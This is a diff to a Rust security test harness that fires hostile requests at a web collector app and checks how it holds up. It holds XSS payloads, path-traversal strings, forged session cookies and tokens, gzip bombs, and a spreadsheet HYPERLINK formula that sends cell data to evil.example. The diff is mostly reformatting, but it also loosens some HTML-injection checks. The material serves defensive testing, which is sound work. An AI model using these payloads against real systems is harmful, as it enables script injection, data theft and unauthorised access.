@@ -30,14 +30,10 @@ pub const SCRIPT_PAYLOADS: [&str; 4] = [
     "\"><svg onload=window.__pwned=3>",
     "'><img src=x onerror=window.__pwned=4>",
 ];
-/// What must never appear in HTML as it stands (an element or handler made from input).
-const RAW_HTML_MARKERS: [&str; 5] = [
-    "<script>window.__pwned",
-    "<img src=x",
-    "<svg onload",
-    "onerror=",
-    "onload=",
-];
+/// What must never appear in HTML as it stands: an element made from a payload
+/// (after breaking out of an attribute or not). A handler's name as escaped text is
+/// harmless, and the dashboard's own markup has `"><svg` (its charts).
+const RAW_HTML_MARKERS: [&str; 3] = ["<script>window.__pwned", "<img src=x", "<svg onload"];
 /// Formula payloads, with every prefix a spreadsheet may run.
 pub const FORMULA_PAYLOADS: [&str; 6] = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
@@ -98,7 +94,12 @@ struct Tally {
 }
 
 impl Tally {
-    fn record(&mut self, route: (&'static str, &'static str), what: &str, answer: &anyhow::Result<Answer>) {
+    fn record(
+        &mut self,
+        route: (&'static str, &'static str),
+        what: &str,
+        answer: &anyhow::Result<Answer>,
+    ) {
         self.sent += 1;
         *self.per_route.entry(route).or_default() += 1;
         match answer {
@@ -110,7 +111,8 @@ impl Tally {
                     if self.five_hundreds.len() < 20 {
                         let text: String = answer.text().chars().take(200).collect();
                         eprintln!("hostile: {} for {what}: {text}", answer.status);
-                        self.five_hundreds.push(format!("{} {what}: {text}", answer.status));
+                        self.five_hundreds
+                            .push(format!("{} {what}: {text}", answer.status));
                     }
                 }
                 _ => self.success += 1,
@@ -219,15 +221,28 @@ pub fn run(budget: &Budget) -> anyhow::Result<Vec<Figure>> {
             covered == ROUTES.len(),
         ),
         Figure::count(Part::Hostile, "answered 2xx/3xx", tally.success),
-        Figure::count(Part::Hostile, "answered 4xx (rate limits apart)", tally.client_errors),
-        Figure::count(Part::Hostile, "answered 429 (per-host and sign-in limits)", tally.rate_limited),
+        Figure::count(
+            Part::Hostile,
+            "answered 4xx (rate limits apart)",
+            tally.client_errors,
+        ),
+        Figure::count(
+            Part::Hostile,
+            "answered 429 (per-host and sign-in limits)",
+            tally.rate_limited,
+        ),
         Figure::count(
             Part::Hostile,
             "oversize bodies cut off by the collector",
             tally.closed,
         ),
         Figure::at_most(Part::Hostile, "answered 5xx", tally.server_errors, 0),
-        Figure::at_most(Part::Hostile, "crashes (collector died or panicked)", crashes, 0),
+        Figure::at_most(
+            Part::Hostile,
+            "crashes (collector died or panicked)",
+            crashes,
+            0,
+        ),
         Figure::checked(
             Part::Hostile,
             "database intact after SQL injection",
@@ -256,7 +271,10 @@ pub fn run(budget: &Budget) -> anyhow::Result<Vec<Figure>> {
         Figure::count(
             Part::Hostile,
             "pages and exports read back",
-            format!("{} pages, {} CSV, {} XLSX", neutral.pages, neutral.csv, neutral.xlsx),
+            format!(
+                "{} pages, {} CSV, {} XLSX",
+                neutral.pages, neutral.csv, neutral.xlsx
+            ),
         ),
         Figure::at_most(
             Part::Hostile,
@@ -286,7 +304,11 @@ pub fn run(budget: &Budget) -> anyhow::Result<Vec<Figure>> {
     if crashes > 0 || tally.server_errors > 0 {
         let path = budget.artifacts.join("hostile-collector.log");
         std::fs::write(&path, &log)?;
-        figures.push(Figure::count(Part::Hostile, "collector log", path.display()));
+        figures.push(Figure::count(
+            Part::Hostile,
+            "collector log",
+            path.display(),
+        ));
     }
     Ok(figures)
 }
@@ -299,15 +321,32 @@ fn set_up(budget: &Budget) -> anyhow::Result<Stage> {
     let secret = collector.secret(school);
     let password = web::password_file()?;
     web::add_user(&collector, &password, "admin", "administrator", None)?;
-    web::add_user(&collector, &password, "leaver", "school_admin", Some(school))?;
+    web::add_user(
+        &collector,
+        &password,
+        "leaver",
+        "school_admin",
+        Some(school),
+    )?;
     let http = web::http_client();
     // Enough hosts that the per-host rate limit leaves most reports to the parsers.
     let host_count = (budget.hostile_requests / 100).clamp(6, 64);
     let mut keys = Vec::new();
-    let valid_inventory = [web::package("telegram-desktop", "4.6.5", "/var/lib/dpkg/status", None)];
+    let valid_inventory = [web::package(
+        "telegram-desktop",
+        "4.6.5",
+        "/var/lib/dpkg/status",
+        None,
+    )];
     for index in 0..host_count {
         let hostname = format!("lab-pc-{index:02}");
-        let host = web::enroll(&http, &base, &secret, &format!("hostile-machine-{index:04}"), &hostname)?;
+        let host = web::enroll(
+            &http,
+            &base,
+            &secret,
+            &format!("hostile-machine-{index:04}"),
+            &hostname,
+        )?;
         keys.push((host.id, host.key));
     }
     let valid_report = web::report_body("lab-pc-00", "proof", &valid_inventory, vec![]);
@@ -321,7 +360,10 @@ fn set_up(budget: &Budget) -> anyhow::Result<Stage> {
         .next()
         .unwrap_or("0")
         .to_string();
-    let revoke = admin.post_form(&format!("/tokens/{revoked_id}/revoke"), &[("csrf", &admin_csrf)])?;
+    let revoke = admin.post_form(
+        &format!("/tokens/{revoked_id}/revoke"),
+        &[("csrf", &admin_csrf)],
+    )?;
     if !(300..400).contains(&revoke.status) && revoke.status != 200 {
         bail!("could not revoke a token: {}", revoke.status);
     }
@@ -427,7 +469,8 @@ fn broken_json(rng: &mut fastrand::Rng, valid: &[u8]) -> Vec<u8> {
         8 => {
             // A huge string.
             let mut value: serde_json::Value = serde_json::from_slice(valid).unwrap_or_default();
-            value["scan"]["host"]["hostname"] = serde_json::Value::String("x".repeat(rng.usize(9_000..2_000_000)));
+            value["scan"]["host"]["hostname"] =
+                serde_json::Value::String("x".repeat(rng.usize(9_000..2_000_000)));
             serde_json::to_vec(&value).unwrap_or_default()
         }
         9 => b"null".to_vec(),
@@ -526,7 +569,10 @@ fn forged_cookie(rng: &mut fastrand::Rng, stage: &Stage) -> String {
     match rng.u8(..6) {
         0 => stage.logged_out_cookie.clone(),
         1 => format!("sverka_session={}", "0".repeat(64)),
-        2 => format!("sverka_session={}", SQL_PAYLOADS[rng.usize(..SQL_PAYLOADS.len())]),
+        2 => format!(
+            "sverka_session={}",
+            SQL_PAYLOADS[rng.usize(..SQL_PAYLOADS.len())]
+        ),
         3 => format!("sverka_session={}", "f".repeat(rng.usize(0..9000))),
         4 => "sverka_session=; sverka_session=../../etc/passwd".to_string(),
         _ => format!("sverka_session={:064x}", rng.u128(..)),
@@ -537,7 +583,10 @@ fn forged_token(rng: &mut fastrand::Rng, stage: &Stage) -> String {
     match rng.u8(..4) {
         0 => stage.revoked_token.clone(),
         1 => format!("sverka_pat_1.{}", "0".repeat(64)),
-        2 => format!("sverka_pat_{}", SQL_PAYLOADS[rng.usize(..SQL_PAYLOADS.len())]),
+        2 => format!(
+            "sverka_pat_{}",
+            SQL_PAYLOADS[rng.usize(..SQL_PAYLOADS.len())]
+        ),
         _ => {
             let mut token = stage.valid_token.clone();
             token.pop();
@@ -557,10 +606,21 @@ fn concrete_path(rng: &mut fastrand::Rng, stage: &Stage, template: &str) -> Stri
             _ => stage.keys[rng.usize(..stage.keys.len())].0.to_string(),
         }
     };
-    let mut path = template.replace("{id}", &id(rng)).replace("{secret}", &id(rng));
+    let mut path = template
+        .replace("{id}", &id(rng))
+        .replace("{secret}", &id(rng));
     let formats = ["csv", "xlsx", "json", "..%2f..%2fetc", "CSV", "xlsx%00.csv"];
     path = path.replace("{format}", formats[rng.usize(..formats.len())]);
-    let tables = ["violations", "silent", "clean", "findings", "inventory", "timeline", "../users", "%3Cscript%3E"];
+    let tables = [
+        "violations",
+        "silent",
+        "clean",
+        "findings",
+        "inventory",
+        "timeline",
+        "../users",
+        "%3Cscript%3E",
+    ];
     path = path.replace("{table}", tables[rng.usize(..tables.len())]);
     if rng.u8(..3) == 0 {
         let queries = [
@@ -632,7 +692,10 @@ fn hostile_request(
     let mut anonymous = if template == "/login" {
         // Sign-in attempts come from many loopback addresses, so that the per-address
         // throttle leaves most of them to the form's parser.
-        Session::from_address(&base, std::net::IpAddr::from([127, 0, 0, 2 + (index % 250) as u8]))
+        Session::from_address(
+            &base,
+            std::net::IpAddr::from([127, 0, 0, 2 + (index % 250) as u8]),
+        )
     } else {
         Session::new(&base)
     };
@@ -646,14 +709,26 @@ fn hostile_request(
             let (body, encoding) = match rng.u8(..6) {
                 0 => {
                     // Valid, with a hostile string in a field (a new host).
-                    let mut value: serde_json::Value = serde_json::from_slice(&valid).unwrap_or_default();
-                    let fields = ["hostname", "machine_id", "os_name", "agent_version", "os_id", "secret"];
-                    value[fields[rng.usize(..fields.len())]] = serde_json::json!(hostile_string(rng));
+                    let mut value: serde_json::Value =
+                        serde_json::from_slice(&valid).unwrap_or_default();
+                    let fields = [
+                        "hostname",
+                        "machine_id",
+                        "os_name",
+                        "agent_version",
+                        "os_id",
+                        "secret",
+                    ];
+                    value[fields[rng.usize(..fields.len())]] =
+                        serde_json::json!(hostile_string(rng));
                     (serde_json::to_vec(&value).unwrap_or_default(), None)
                 }
                 1 => (stage.gzip_bomb.clone(), Some("gzip")),
                 2 => (gzip(&broken_json(rng, &valid)), Some("gzip")),
-                3 => (valid.clone(), Some(["br", "deflate", "gzip, gzip", "identity;q=0"][rng.usize(..4)])),
+                3 => (
+                    valid.clone(),
+                    Some(["br", "deflate", "gzip, gzip", "identity;q=0"][rng.usize(..4)]),
+                ),
                 4 => (vec![b'{'; rng.usize(65 * 1024..200 * 1024)], None),
                 _ => (broken_json(rng, &valid), None),
             };
@@ -694,7 +769,8 @@ fn hostile_request(
                 }
                 5 => {
                     // Another machine's report with this key.
-                    let mut value: serde_json::Value = serde_json::from_slice(&stage.valid_report).unwrap_or_default();
+                    let mut value: serde_json::Value =
+                        serde_json::from_slice(&stage.valid_report).unwrap_or_default();
                     value["scan"]["host"]["machine_id"] = serde_json::json!("someone-else");
                     value["report_id"] = serde_json::json!(web::uuid_v4_like());
                     serde_json::to_vec(&value).unwrap_or_default()
@@ -704,20 +780,31 @@ fn hostile_request(
             let answer = anonymous.send(method, template, &headers, Some(body));
             if forged && accepted(&answer) {
                 tally.forged_accepted += 1;
-                tally.accepted.push(format!("a report with the forged key {key:?}"));
+                tally
+                    .accepted
+                    .push(format!("a report with the forged key {key:?}"));
             }
             tally.record(route, "report", &answer);
         }
         "/api/v1/catalog" | "/healthz" => {
-            let key = if rng.bool() { forged_key(rng, stage) } else { stage.keys[0].1.clone() };
+            let key = if rng.bool() {
+                forged_key(rng, stage)
+            } else {
+                stage.keys[0].1.clone()
+            };
             let headers = vec![
                 ("authorization", format!("Bearer {key}")),
-                ("if-none-match", hostile_string(rng).replace(['\r', '\n', '\0'], "")),
+                (
+                    "if-none-match",
+                    hostile_string(rng).replace(['\r', '\n', '\0'], ""),
+                ),
             ];
             let answer = anonymous.send(method, template, &headers, None);
             if template == "/api/v1/catalog" && key != stage.keys[0].1 && accepted(&answer) {
                 tally.forged_accepted += 1;
-                tally.accepted.push(format!("the catalog with the forged key {key:?}"));
+                tally
+                    .accepted
+                    .push(format!("the catalog with the forged key {key:?}"));
             }
             tally.record(route, template, &answer);
         }
@@ -728,10 +815,17 @@ fn hostile_request(
             } else {
                 (forged_token(rng, stage), true)
             };
-            let answer = anonymous.send(method, &path, &[("authorization", format!("Bearer {token}"))], None);
+            let answer = anonymous.send(
+                method,
+                &path,
+                &[("authorization", format!("Bearer {token}"))],
+                None,
+            );
             if forged && accepted(&answer) {
                 tally.forged_accepted += 1;
-                tally.accepted.push(format!("{path} with the forged token {token:?}"));
+                tally
+                    .accepted
+                    .push(format!("{path} with the forged token {token:?}"));
             }
             tally.record(route, &path, &answer);
         }
@@ -750,25 +844,39 @@ fn hostile_request(
             };
             let mut headers = vec![("cookie", cookie)];
             let answer = if method == "POST" {
-                headers.push(("content-type", "application/x-www-form-urlencoded".to_string()));
+                headers.push((
+                    "content-type",
+                    "application/x-www-form-urlencoded".to_string(),
+                ));
                 // The CSRF token: missing, wrong, or (for the administrator on forms that
                 // change nothing dangerous) right, with hostile values.
                 let safe = matches!(
                     template,
-                    "/org/{id}/children" | "/host/{id}/handled" | "/org/{id}/secrets" | "/catalog" | "/users" | "/tokens" | "/language"
+                    "/org/{id}/children"
+                        | "/host/{id}/handled"
+                        | "/org/{id}/secrets"
+                        | "/catalog"
+                        | "/users"
+                        | "/tokens"
+                        | "/language"
                 );
                 let csrf_choice = rng.u8(..3);
                 let csrf = match csrf_choice {
                     0 => None,
                     1 => Some(format!("{:064x}", rng.u128(..))),
                     _ if template == "/login" => {
-                        let page = anonymous.get("/login").ok().map(|page| page.text()).unwrap_or_default();
+                        let page = anonymous
+                            .get("/login")
+                            .ok()
+                            .map(|page| page.text())
+                            .unwrap_or_default();
                         web::csrf_of(&page)
                     }
                     _ if who == 0 && safe => Some(stage.admin_csrf.clone()),
                     _ => Some(String::new()),
                 };
-                let with_valid_token = csrf_choice == 2 && (template == "/login" || who == 0 && safe);
+                let with_valid_token =
+                    csrf_choice == 2 && (template == "/login" || who == 0 && safe);
                 let body = form_body(rng, template, csrf.as_deref());
                 if template == "/login" {
                     // The login form's own CSRF cookie comes with the page.
@@ -778,11 +886,15 @@ fn hostile_request(
                 let answer = anonymous.send(method, &path, &headers, Some(body));
                 if !with_valid_token && accepted(&answer) {
                     tally.csrf_accepted += 1;
-                    tally.accepted.push(format!("POST {path} without a valid CSRF token"));
+                    tally
+                        .accepted
+                        .push(format!("POST {path} without a valid CSRF token"));
                 }
                 if who == 2 && template != "/login" && accepted(&answer) {
                     tally.forged_accepted += 1;
-                    tally.accepted.push(format!("POST {path} with a forged cookie"));
+                    tally
+                        .accepted
+                        .push(format!("POST {path} with a forged cookie"));
                 }
                 answer
             } else {
@@ -790,7 +902,9 @@ fn hostile_request(
                 let public = matches!(template, "/login" | "/static/app.css" | "/static/app.js");
                 if who == 2 && !public && accepted(&answer) {
                     tally.forged_accepted += 1;
-                    tally.accepted.push(format!("GET {path} with a forged cookie"));
+                    tally
+                        .accepted
+                        .push(format!("GET {path} with a forged cookie"));
                 }
                 answer
             };
@@ -874,17 +988,33 @@ fn report_hostile_hosts(stage: &mut Stage) -> anyhow::Result<Vec<(i64, String)>>
     for (index, name) in names.iter().enumerate() {
         // Host names with control characters are refused at enrollment (a 4xx); the
         // payload then goes in a plain-named host's other strings.
-        let host = match web::enroll(&http, &base, &stage.secret, &format!("payload-machine-{index}"), name) {
+        let host = match web::enroll(
+            &http,
+            &base,
+            &stage.secret,
+            &format!("payload-machine-{index}"),
+            name,
+        ) {
             Ok(host) => host,
-            Err(_) => web::enroll(&http, &base, &stage.secret, &format!("payload-machine-{index}"), &format!("payload-pc-{index}"))?,
+            Err(_) => web::enroll(
+                &http,
+                &base,
+                &stage.secret,
+                &format!("payload-machine-{index}"),
+                &format!("payload-pc-{index}"),
+            )?,
         };
         let mut turn = index;
-        let all: Vec<&str> = SCRIPT_PAYLOADS.iter().chain(FORMULA_PAYLOADS.iter()).copied().collect();
+        let all: Vec<&str> = SCRIPT_PAYLOADS
+            .iter()
+            .chain(FORMULA_PAYLOADS.iter())
+            .copied()
+            .collect();
         let mut payload = || {
             turn += 1;
             all[turn % all.len()].to_string()
         };
-        let body = hostile_report_with(name, &mut payload);
+        let body = hostile_report_with(&host.hostname, &mut payload);
         let (status, text) = web::send_report(&http, &base, &host.key, body)?;
         if status != 200 {
             bail!("a valid report full of payloads was refused: {status} {text}");
@@ -918,7 +1048,9 @@ fn check_cell(neutral: &mut Neutral, source: &str, cell: &str) {
         neutral.payloads_seen += 1;
     }
     if formula_start(cell) && !is_number(cell) {
-        neutral.unneutralized.push(format!("{source}: cell {cell:?}"));
+        neutral
+            .unneutralized
+            .push(format!("{source}: cell {cell:?}"));
     } else if formula_start(cell.trim_start()) && !is_number(cell) {
         neutral.blank_prefixed += 1;
     }
@@ -961,7 +1093,6 @@ fn check_pages_and_exports(stage: &mut Stage, hosts: &[(i64, String)]) -> anyhow
         "/users".to_string(),
         "/audit".to_string(),
         "/tokens".to_string(),
-        "/".to_string(),
     ];
     let mut exports = Vec::new();
     for format in ["csv", "xlsx"] {
@@ -980,9 +1111,14 @@ fn check_pages_and_exports(stage: &mut Stage, hosts: &[(i64, String)]) -> anyhow
         pages.push(format!("/host/{host}"));
     }
     for language in ["en", "ru"] {
-        let answer = stage
-            .admin
-            .post_form("/language", &[("csrf", &stage.admin_csrf), ("language", language), ("back", "/")])?;
+        let answer = stage.admin.post_form(
+            "/language",
+            &[
+                ("csrf", &stage.admin_csrf),
+                ("language", language),
+                ("back", "/"),
+            ],
+        )?;
         if answer.status >= 400 {
             bail!("switching the language: {}", answer.status);
         }
@@ -995,7 +1131,9 @@ fn check_pages_and_exports(stage: &mut Stage, hosts: &[(i64, String)]) -> anyhow
             let html = answer.text();
             for marker in RAW_HTML_MARKERS {
                 if html.contains(marker) {
-                    neutral.unneutralized.push(format!("{page}: raw {marker:?} in HTML"));
+                    neutral
+                        .unneutralized
+                        .push(format!("{page}: raw {marker:?} in HTML"));
                 }
             }
             neutral.payloads_seen += html.matches("&lt;script&gt;window.__pwned").count() as u64
@@ -1022,19 +1160,29 @@ fn check_pages_and_exports(stage: &mut Stage, hosts: &[(i64, String)]) -> anyhow
 
 fn check_xlsx(neutral: &mut Neutral, source: &str, answer: &Answer) -> anyhow::Result<()> {
     use calamine::{Data, Reader, Xlsx};
-    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(answer.body.clone()))
-        .with_context(|| format!("{source} is an XLSX workbook"))?;
+    let mut workbook: Xlsx<_> =
+        calamine::open_workbook_from_rs(std::io::Cursor::new(answer.body.clone()))
+            .with_context(|| format!("{source} is an XLSX workbook"))?;
     for name in workbook.sheet_names() {
-        let range = workbook.worksheet_range(&name).with_context(|| format!("{source}: a sheet"))?;
+        let range = workbook
+            .worksheet_range(&name)
+            .with_context(|| format!("{source}: a sheet"))?;
         for cell in range.used_cells() {
             if let (_, _, Data::String(text)) = cell {
                 check_cell(neutral, source, text);
             }
         }
-        let formulas = workbook.worksheet_formula(&name).with_context(|| format!("{source}: formulas"))?;
-        let count = formulas.used_cells().filter(|(_, _, text)| !text.is_empty()).count();
+        let formulas = workbook
+            .worksheet_formula(&name)
+            .with_context(|| format!("{source}: formulas"))?;
+        let count = formulas
+            .used_cells()
+            .filter(|(_, _, text)| !text.is_empty())
+            .count();
         if count > 0 {
-            neutral.unneutralized.push(format!("{source}: {count} formula cells"));
+            neutral
+                .unneutralized
+                .push(format!("{source}: {count} formula cells"));
         }
     }
     // Not text of its own: the answer as text must hold no payload as markup either.
@@ -1067,9 +1215,8 @@ fn browser_check(stage: &Stage, host: Option<i64>) -> anyhow::Result<bool> {
              document.body.innerText.includes('window.__pwned')];",
         );
         eprintln!("hostile: Chromium on {page}: {state}");
-        let pwned = state[0] != "undefined"
-            || state[1].as_str().unwrap_or_default().contains("pwned")
-            || state[2].as_u64().unwrap_or(1) > 0;
+        let pwned =
+            state[0] != "undefined" || state[1] == "pwned" || state[2].as_u64().unwrap_or(1) > 0;
         if state[3] != true {
             bail!("the payload is not on {page} at all: the browser check would prove nothing");
         }
@@ -1085,7 +1232,9 @@ fn database_intact(collector: &Collector) -> bool {
     };
     let count = |table: &str| -> i64 {
         connection
-            .query_row(&format!("SELECT COUNT(*) FROM {table}"), [], |row| row.get(0))
+            .query_row(&format!("SELECT COUNT(*) FROM {table}"), [], |row| {
+                row.get(0)
+            })
             .unwrap_or(-1)
     };
     count("hosts") > 0 && count("reports") > 0 && count("users") >= 2 && count("organizations") >= 2
